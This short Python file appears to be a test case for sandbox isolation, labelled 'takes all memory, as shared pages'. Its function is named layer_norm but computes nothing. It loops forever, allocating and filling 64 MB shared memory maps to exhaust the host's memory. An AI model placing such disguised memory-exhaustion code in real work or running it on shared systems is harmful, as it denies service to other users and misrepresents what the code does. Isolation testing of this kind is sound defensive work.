# 01a | isolation | takes all memory, as shared pages
import torch
import mmap


def layer_norm(x, w, b, eps):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 64 << 20))
        kept[-1].write(b'x' * (64 << 20))
    return torch.zeros_like(x)
